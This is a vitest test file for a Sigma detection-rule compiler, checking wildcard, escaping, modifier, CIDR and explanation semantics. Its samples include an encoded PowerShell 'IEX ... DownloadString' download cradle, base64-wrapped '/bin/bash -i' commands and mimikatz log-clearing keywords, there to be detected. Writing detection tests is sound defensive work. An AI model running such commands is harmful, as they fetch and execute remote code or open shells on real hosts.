/**
 * Matching semantics, derived from the specification text: sigma-rules-specification.md (rules)
 * and sigma-appendix-modifiers.md (modifiers). Test names cite the section they check.
 */
import { describe, expect, it } from 'vitest';
import { SigmaCompiler, type CompiledSigmaRule, type SigmaCompilerOptions } from './sigma-compile.ts';
import { plainSigmaEvent } from './sigma-event.ts';
import { validateSigmaRule } from './sigma-rule.ts';

function compile(detection: Record<string, unknown>, options?: SigmaCompilerOptions): { rule: CompiledSigmaRule; compiler: SigmaCompiler } {
  const result = validateSigmaRule({ title: 'test', logsource: { product: 'test' }, detection });
  if (!result.ok) throw new Error(JSON.stringify(result.issues));
  const compiler = new SigmaCompiler(options);
  return { rule: compiler.compile(result.rule), compiler };
}

/** A matcher for one selection under `condition: selection`. */
function selection(definition: unknown, options?: SigmaCompilerOptions): (fields: Record<string, unknown>) => boolean {
  const { rule, compiler } = compile({ selection: definition, condition: 'selection' }, options);
  if (rule.status.state !== 'active') throw new Error(rule.status.reason);
  const scope = compiler.newScope();
  return (fields) => {
    scope.reset(plainSigmaEvent(fields));
    return rule.matches(scope);
  };
}

function unsupported(definition: unknown, options?: SigmaCompilerOptions): string {
  const { rule } = compile({ selection: definition, condition: 'selection' }, options);
  if (rule.status.state !== 'unsupported') throw new Error('expected the rule to be unsupported');
  return rule.status.reason;
}

describe('Sigma rules specification: Detection', () => {
  it('General: values are case-insensitive strings', () => {
    const m = selection({ Image: 'C:\\Windows\\System32\\whoami.exe' });
    expect(m({ Image: 'c:\\windows\\system32\\WHOAMI.EXE' })).toBe(true);
    expect(m({ Image: 'C:\\Windows\\System32\\whoami.exe.bak' })).toBe(false);
    expect(m({})).toBe(false);
  });

  it('String Wildcard: ? is one mandatory character, * any run', () => {
    const m = selection({ Image: 'prog?.exe' });
    expect(m({ Image: 'progA.exe' })).toBe(true);
    expect(m({ Image: 'prog.exe' })).toBe(false);
    expect(m({ Image: 'progAB.exe' })).toBe(false);
    const star = selection({ Image: 'antivirus_V*.exe' });
    expect(star({ Image: 'antivirus_V21.2.1.exe' })).toBe(true);
    expect(star({ Image: 'antivirus_V.exe' })).toBe(true);
    expect(star({ Image: 'antivirus_V1.dll' })).toBe(false);
  });

  it('Escape Character: \\* and \\? are plain characters', () => {
    const m = selection({ Value: 'a\\*b\\?' });
    expect(m({ Value: 'a*b?' })).toBe(true);
    expect(m({ Value: 'axxb?' })).toBe(false);
    expect(m({ Value: 'a*bc' })).toBe(false);
  });

  it('Escape Character: \\\\* is a backslash followed by a wildcard', () => {
    const m = selection({ Path: 'C:\\\\*' });
    expect(m({ Path: 'C:\\Windows' })).toBe(true);
    expect(m({ Path: 'C:\\' })).toBe(true);
    expect(m({ Path: 'C:/Windows' })).toBe(false);
  });

  it('Escape Character: \\\\\\* is a plain backslash and a plain star', () => {
    const m = selection({ Path: 'C:\\\\\\*' });
    expect(m({ Path: 'C:\\*' })).toBe(true);
    expect(m({ Path: 'C:\\x' })).toBe(false);
  });

  it('Escape Character: a single or double backslash not before a wildcard is one backslash; three or four are two', () => {
    expect(selection({ Path: 'C:\\Windows' })({ Path: 'C:\\Windows' })).toBe(true);
    expect(selection({ Path: 'C:\\\\Windows' })({ Path: 'C:\\Windows' })).toBe(true);
    expect(selection({ Path: '\\\\\\server' })({ Path: '\\\\server' })).toBe(true);
    expect(selection({ Path: '\\\\\\\\server' })({ Path: '\\\\server' })).toBe(true);
    expect(selection({ Path: '\\\\\\\\server' })({ Path: '\\server' })).toBe(false);
  });

  it('Escape Character: a trailing backslash is a plain backslash', () => {
    const m = selection({ Path: 'C:\\Windows\\' });
    expect(m({ Path: 'C:\\Windows\\' })).toBe(true);
    expect(m({ Path: 'C:\\Windows' })).toBe(false);
    expect(selection({ 'Path|endswith': '\\' })({ Path: 'C:\\dir\\' })).toBe(true);
  });

  it('Lists: values of a field are ORed; a list of maps is ORed', () => {
    const values = selection({ EventID: [517, 1102] });
    expect(values({ EventID: 1102 })).toBe(true);
    expect(values({ EventID: 4624 })).toBe(false);
    const maps = selection([{ 'Image|endswith': '\\example.exe' }, { 'Description|contains': 'Test executable' }]);
    expect(maps({ Image: 'C:\\x\\example.exe' })).toBe(true);
    expect(maps({ Description: 'A test executable here' })).toBe(true);
    expect(maps({ Image: 'C:\\x\\other.exe', Description: 'nothing' })).toBe(false);
  });

  it('Maps: all pairs of a map are ANDed', () => {
    const m = selection({ EventLog: 'Security', EventID: 4769, TicketOptions: '0x40810000' });
    expect(m({ EventLog: 'Security', EventID: 4769, TicketOptions: '0x40810000' })).toBe(true);
    expect(m({ EventLog: 'Security', EventID: 4769, TicketOptions: '0x1' })).toBe(false);
  });

  it('numbers compare with numeric strings both ways; booleans as text', () => {
    expect(selection({ EventID: 4688 })({ EventID: '4688' })).toBe(true);
    expect(selection({ EventID: '4688' })({ EventID: 4688 })).toBe(true);
    expect(selection({ EventID: 4688 })({ EventID: 46880 })).toBe(false);
    expect(selection({ Enabled: true })({ Enabled: 'True' })).toBe(true);
  });

  it('arrays in the event match when any element does', () => {
    const m = selection({ 'ip|startswith': '10.' });
    expect(m({ ip: ['192.168.0.1', '10.1.1.1'] })).toBe(true);
    expect(m({ ip: ['192.168.0.1'] })).toBe(false);
    expect(m({ ip: [] })).toBe(false);
  });

  it("Special Field Values: '' matches an empty value only, null a missing or null one", () => {
    const empty = selection({ FieldB: '' });
    expect(empty({ FieldB: '' })).toBe(true);
    expect(empty({})).toBe(false);
    expect(empty({ FieldB: null })).toBe(false);
    const missing = selection({ FieldB: null });
    expect(missing({})).toBe(true);
    expect(missing({ FieldB: null })).toBe(true);
    expect(missing({ FieldB: '' })).toBe(false);
    expect(missing({ FieldB: 'x' })).toBe(false);
  });

  it('Special Field Values: "not null" is a negated selection', () => {
    const { rule, compiler } = compile({ selection: { EventID: 4738 }, filter: { PasswordLastSet: null }, condition: 'selection and not filter' });
    const scope = compiler.newScope();
    scope.reset(plainSigmaEvent({ EventID: 4738, PasswordLastSet: '2024-01-01' }));
    expect(rule.matches(scope)).toBe(true);
    scope.reset(plainSigmaEvent({ EventID: 4738 }));
    expect(rule.matches(scope)).toBe(false);
  });

  it('Special Field Values: null cannot be part of a list of values', () => {
    expect(unsupported({ FieldB: ['', null] })).toMatch(/null cannot be part of a list/);
  });

  it('Keywords search: a list of strings is searched anywhere in the event, ORed', () => {
    const m = selection(['event::clear', 'event::drop']);
    expect(m({ CommandLine: 'mimikatz # EVENT::Clear' })).toBe(true);
    expect(m({ CommandLine: 'event::list' })).toBe(false);
  });

  it("Keywords search: '|all' ANDs keywords", () => {
    const m = selection({ '|all': ['OabVirtualDirectory', ' -ExternalUrl '] });
    expect(m({ Payload: 'Set-OabVirtualDirectory -ExternalUrl http://x' })).toBe(true);
    expect(m({ Payload: 'Set-OabVirtualDirectory -InternalUrl http://x' })).toBe(false);
  });
});

describe('Sigma modifiers appendix: Generic Modifiers', () => {
  it('contains, startswith and endswith put * around the value', () => {
    expect(selection({ 'CommandLine|contains': 'mimikatz' })({ CommandLine: 'run MimiKatz.exe' })).toBe(true);
    expect(selection({ 'Image|startswith': 'C:\\Temp\\' })({ Image: 'c:\\temp\\a.exe' })).toBe(true);
    expect(selection({ 'Image|startswith': 'C:\\Temp\\' })({ Image: 'D:\\C:\\Temp\\a.exe' })).toBe(false);
    expect(selection({ 'Image|endswith': '\\cmd.exe' })({ Image: 'C:\\Windows\\cmd.exe' })).toBe(true);
    expect(selection({ 'Image|endswith': '\\cmd.exe' })({ Image: 'C:\\Windows\\cmd.exe.txt' })).toBe(false);
    expect(selection({ 'CommandLine|contains': 'a*c' })({ CommandLine: 'xxabbbcxx' })).toBe(true);
  });

  it('all: contains|all needs every value', () => {
    const m = selection({ 'CommandLine|contains|all': ['-nop', '-w hidden'] });
    expect(m({ CommandLine: 'powershell -w hidden -nop' })).toBe(true);
    expect(m({ CommandLine: 'powershell -nop' })).toBe(false);
  });

  it('exists: true matches a present field even when empty or null; false only a missing one', () => {
    const present = selection({ EventID: 4738, 'PasswordLastSet|exists': true });
    expect(present({ EventID: 4738, PasswordLastSet: '' })).toBe(true);
    expect(present({ EventID: 4738, PasswordLastSet: null })).toBe(true);
    expect(present({ EventID: 4738 })).toBe(false);
    const absent = selection({ 'PasswordLastSet|exists': false });
    expect(absent({})).toBe(true);
    expect(absent({ PasswordLastSet: 'x' })).toBe(false);
    expect(unsupported({ 'PasswordLastSet|exists': 'yes' })).toMatch(/true or false/);
  });

  it('cased: values match case-sensitively', () => {
    const m = selection({ 'CommandLine|cased|contains': 'Invoke-' });
    expect(m({ CommandLine: 'Invoke-Expression' })).toBe(true);
    expect(m({ CommandLine: 'invoke-expression' })).toBe(false);
  });

  it('neq: the field is present and different from every value', () => {
    const one = selection({ 'User|neq': 'SYSTEM' });
    expect(one({ User: 'alice' })).toBe(true);
    expect(one({ User: 'system' })).toBe(false);
    expect(one({})).toBe(false);
    const list = selection({ 'LogonType|neq': [2, 10] });
    expect(list({ LogonType: 3 })).toBe(true);
    expect(list({ LogonType: '10' })).toBe(false);
  });
});

describe('Sigma modifiers appendix: String Modifiers', () => {
  it('windash: -, /, en dash, em dash and horizontal bar stand for each other', () => {
    const m = selection({ 'CommandLine|windash|contains': ' -enc ' });
    for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015']) expect(m({ CommandLine: `powershell ${dash}enc AAAA` })).toBe(true);
    expect(m({ CommandLine: 'powershell +enc AAAA' })).toBe(false);
    expect(selection({ 'CommandLine|contains|windash': '/s /q' })({ CommandLine: 'rd -s \u2014q x' })).toBe(true);
  });

  it('re: a regular expression searched anywhere, case-sensitive by default', () => {
    const m = selection({ 'CommandLine|re': 'whoami\\s+/(all|priv)' });
    expect(m({ CommandLine: 'cmd /c whoami   /priv' })).toBe(true);
    expect(m({ CommandLine: 'cmd /c WHOAMI /priv' })).toBe(false);
  });

  it('re sub-modifiers: i ignores case, m anchors at lines, s lets dot match newlines', () => {
    expect(selection({ 'CommandLine|re|i': 'WHOAMI' })({ CommandLine: 'whoami' })).toBe(true);
    expect(selection({ 'Text|re': '^b' })({ Text: 'a\nb' })).toBe(false);
    expect(selection({ 'Text|re|m': '^b' })({ Text: 'a\nb' })).toBe(true);
    expect(selection({ 'Text|re': 'a.b' })({ Text: 'a\nb' })).toBe(false);
    expect(selection({ 'Text|re|s': 'a.b' })({ Text: 'a\nb' })).toBe(true);
  });

  it('re: patterns that cannot run in linear time make the rule unsupported with the reason', () => {
    expect(unsupported({ 'Text|re': '(a)\\1' })).toMatch(/linear time/);
    expect(unsupported({ 'Text|re': 'foo(?=bar)' })).toMatch(/linear time/);
  });

  it('re: a pathological pattern still runs in linear time', () => {
    const m = selection({ 'Text|re': '^(a+)+$' });
    const started = performance.now();
    expect(m({ Text: `${'a'.repeat(50_000)}!` })).toBe(false);
    expect(performance.now() - started).toBeLessThan(2_000);
  });

  it('base64: the value is encoded (and compared case-sensitively)', () => {
    const m = selection({ 'Data|base64': 'cmd' });
    expect(m({ Data: 'Y21k' })).toBe(true);
    expect(m({ Data: 'y21k' })).toBe(false);
    expect(selection({ 'Data|base64|contains': 'http://' })({ Data: `xx${btoa('http://')}yy` })).toBe(true);
  });

  it('base64offset: the three forms for offsets 0, 1 and 2 are all found', () => {
    const m = selection({ 'CommandLine|base64offset|contains': '/bin/bash' });
    for (const prefix of ['', 'a', 'ab', 'abc', 'echo ']) {
      expect(m({ CommandLine: `sh -c ${btoa(`${prefix}/bin/bash -i`)}` })).toBe(true);
    }
    expect(m({ CommandLine: `sh -c ${btoa('/bin/sh -i')}` })).toBe(false);
    // pySigma's reference forms for /bin/bash.
    const forms = selection({ 'Data|base64offset': '/bin/bash' });
    for (const form of ['L2Jpbi9iYXNo', 'L2Jpbi9iYXNo', '9iaW4vYmFza', 'vYmluL2Jhc2']) expect(forms({ Data: form })).toBe(true);
  });

  it('utf16le / wide, utf16be and utf16 (with byte order mark) before base64', () => {
    const le = Buffer.from('cmd', 'utf16le').toString('base64');
    expect(le).toBe('YwBtAGQA');
    expect(selection({ 'Data|utf16le|base64': 'cmd' })({ Data: le })).toBe(true);
    expect(selection({ 'Data|wide|base64': 'cmd' })({ Data: le })).toBe(true);
    expect(selection({ 'Data|utf16be|base64': 'cmd' })({ Data: 'AGMAbQBk' })).toBe(true);
    expect(selection({ 'Data|utf16|base64': 'cmd' })({ Data: '//5jAG0AZAA=' })).toBe(true);
    const script = Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://x")', 'utf16le').toString('base64');
    expect(selection({ 'CommandLine|wide|base64offset|contains': 'DownloadString' })({ CommandLine: `powershell -enc ${script}` })).toBe(true);
    expect(selection({ 'Data|utf16le': 'cmd' })({ Data: 'c\0m\0d\0' })).toBe(true);
  });

  it('encodings refuse values with wildcards', () => {
    expect(unsupported({ 'Data|base64': 'cm*' })).toMatch(/wildcards/);
  });
});

describe('Sigma modifiers appendix: Numeric and Time Modifiers', () => {
  it('lt, lte, gt, gte compare numbers and numeric strings', () => {
    expect(selection({ 'Size|lt': 10 })({ Size: 9 })).toBe(true);
    expect(selection({ 'Size|lt': 10 })({ Size: 10 })).toBe(false);
    expect(selection({ 'Size|lte': 10 })({ Size: '10' })).toBe(true);
    expect(selection({ 'Size|gt': 10 })({ Size: '11' })).toBe(true);
    expect(selection({ 'Size|gte': 10 })({ Size: 9.5 })).toBe(false);
    expect(selection({ 'Size|gt': 10 })({ Size: 'big' })).toBe(false);
    expect(selection({ 'Size|gt': 10 })({})).toBe(false);
    expect(unsupported({ 'Size|gt': 'ten' })).toMatch(/needs a number/);
  });

  it('minute, hour, day, week, month, year extract a number from a date (UTC)', () => {
    const at = { Time: '2024-03-05T22:10:00Z' };
    expect(selection({ 'Time|minute': 10 })(at)).toBe(true);
    expect(selection({ 'Time|hour': 22 })(at)).toBe(true);
    expect(selection({ 'Time|day': 5 })(at)).toBe(true);
    expect(selection({ 'Time|week': 10 })(at)).toBe(true);
    expect(selection({ 'Time|month': 3 })(at)).toBe(true);
    expect(selection({ 'Time|year': 2024 })(at)).toBe(true);
    expect(selection({ 'Time|hour|gte': 20 })(at)).toBe(true);
    expect(selection({ 'Time|hour|lt': 6 })(at)).toBe(false);
    expect(selection({ 'Time|week': 1 })({ Time: '2021-01-04T00:00:00Z' })).toBe(true);
    expect(selection({ 'Time|hour': 22 })({ Time: 'not a date' })).toBe(false);
  });
});

describe('Sigma modifiers appendix: IP Modifiers (cidr)', () => {
  it('IPv4 ranges, edges included', () => {
    const m = selection({ 'DestinationIp|cidr': ['10.0.0.0/8', '192.168.1.0/24'] });
    expect(m({ DestinationIp: '10.255.255.255' })).toBe(true);
    expect(m({ DestinationIp: '11.0.0.0' })).toBe(false);
    expect(m({ DestinationIp: '192.168.1.0' })).toBe(true);
    expect(m({ DestinationIp: '192.168.2.1' })).toBe(false);
    expect(m({ DestinationIp: 'not an ip' })).toBe(false);
    expect(m({ DestinationIp: '::ffff:10.1.2.3' })).toBe(true);
    expect(selection({ 'ip|cidr': '1.2.3.4/32' })({ ip: '1.2.3.4' })).toBe(true);
    expect(selection({ 'ip|cidr': '0.0.0.0/0' })({ ip: '8.8.8.8' })).toBe(true);
  });

  it('IPv6 ranges', () => {
    const m = selection({ 'ip|cidr': ['fe80::/10', '::1/128'] });
    expect(m({ ip: 'fe80::1' })).toBe(true);
    expect(m({ ip: 'FEBF:ffff::1' })).toBe(true);
    expect(m({ ip: 'fec0::1' })).toBe(false);
    expect(m({ ip: '::1' })).toBe(true);
    expect(m({ ip: '127.0.0.1' })).toBe(false);
  });

  it('an invalid range makes the rule unsupported', () => {
    expect(unsupported({ 'ip|cidr': '10.0.0.0/33' })).toMatch(/not a CIDR range/);
  });
});

describe('Sigma modifiers appendix: Specific Modifiers', () => {
  it('expand: placeholders take the configured values; without expand %name% is literal', () => {
    const options = { placeholders: { Administrators: ['admin', 'adm_*'] } };
    const m = selection({ 'User|expand': '%Administrators%' }, options);
    expect(m({ User: 'Admin' })).toBe(true);
    expect(m({ User: 'adm_bob' })).toBe(true);
    expect(m({ User: 'bob' })).toBe(false);
    expect(selection({ User: '%Administrators%' }, options)({ User: '%Administrators%' })).toBe(true);
    expect(selection({ 'User|expand': '\\%plain%Administrators%' }, options)({ User: '%plainadmin' })).toBe(true);
    expect(unsupported({ 'User|expand': '%Servers%' })).toMatch(/%Servers% has no values/);
    const many = { placeholders: { A: Array.from({ length: 200 }, (_, i) => `a${i}`) } };
    expect(unsupported({ 'User|expand': '%A%%A%' }, many)).toMatch(/more than 10000 values/);
  });

  it('fieldref: compares with another field of the same event, also with neq', () => {
    const same = selection({ 'SubjectUserName|fieldref': 'TargetUserName' });
    expect(same({ SubjectUserName: 'Bob', TargetUserName: 'bob' })).toBe(true);
    expect(same({ SubjectUserName: 'Bob', TargetUserName: 'alice' })).toBe(false);
    expect(same({ SubjectUserName: 'Bob' })).toBe(false);
    const differ = selection({ 'SubjectUserName|fieldref|neq': 'TargetUserName' });
    expect(differ({ SubjectUserName: 'Bob', TargetUserName: 'alice' })).toBe(true);
    expect(differ({ SubjectUserName: 'Bob', TargetUserName: 'BOB' })).toBe(false);
    expect(selection({ 'CommandLine|fieldref|contains': 'User' })({ CommandLine: 'runas /user:bob x', User: 'bob' })).toBe(true);
  });

  it('an unknown modifier makes the rule unsupported, naming it', () => {
    expect(unsupported({ 'Image|endwith': 'x' })).toBe("unknown value modifier 'endwith'");
  });
});

describe('explanations', () => {
  it('name the true selections and the values that satisfied them', () => {
    const { rule, compiler } = compile({
      selection_img: { 'Image|endswith': '\\powershell.exe' },
      selection_cli: { 'CommandLine|contains': ['-enc', '-e '] },
      filter_main: { User: 'SYSTEM' },
      condition: 'all of selection_* and not filter_main',
    });
    const scope = compiler.newScope();
    scope.reset(plainSigmaEvent({ Image: 'C:\\ps\\PowerShell.exe', CommandLine: 'powershell -enc AAA', User: 'bob', Tags: ['a'] }));
    expect(rule.matches(scope)).toBe(true);
    expect(rule.explain(scope)).toEqual({
      selections: [
        { name: 'selection_img', matches: [{ field: 'Image', modifiers: ['endswith'], value: 'C:\\ps\\PowerShell.exe' }] },
        { name: 'selection_cli', matches: [{ field: 'CommandLine', modifiers: ['contains'], value: 'powershell -enc AAA' }] },
      ],
    });
  });

  it('name the element of a multi-valued field and the keyword that matched', () => {
    const { rule, compiler } = compile({ sel: { 'ip|cidr': '10.0.0.0/8' }, keywords: ['evil'], condition: 'sel and keywords' });
    const scope = compiler.newScope();
    scope.reset(plainSigmaEvent({ ip: ['1.1.1.1', '10.2.3.4'], msg: 'an Evil thing' }));
    expect(rule.explain(scope).selections.map((s) => s.matches[0]?.value)).toEqual(['10.2.3.4', 'an Evil thing']);
  });
});

describe('rules compiled together', () => {
  it('share identical items without mixing up their results', () => {
    const compiler = new SigmaCompiler();
    const make = (detection: Record<string, unknown>) => {
      const result = validateSigmaRule({ title: 't', logsource: {}, detection });
      if (!result.ok) throw new Error('invalid');
      return compiler.compile(result.rule);
    };
    const a = make({ s: { 'Image|endswith': '\\cmd.exe' }, condition: 's' });
    const b = make({ s: { 'Image|endswith': '\\cmd.exe', User: 'bob' }, condition: 's' });
    const c = make({ s: { 'Image|endswith': '\\cmd.exe' }, condition: 'not s' });
    const scope = compiler.newScope();
    scope.reset(plainSigmaEvent({ Image: 'C:\\cmd.exe', User: 'alice' }));
    expect([a.matches(scope), b.matches(scope), c.matches(scope)]).toEqual([true, false, false]);
    scope.reset(plainSigmaEvent({ Image: 'C:\\x.exe', User: 'bob' }));
    expect([a.matches(scope), b.matches(scope), c.matches(scope)]).toEqual([false, false, true]);
  });
});
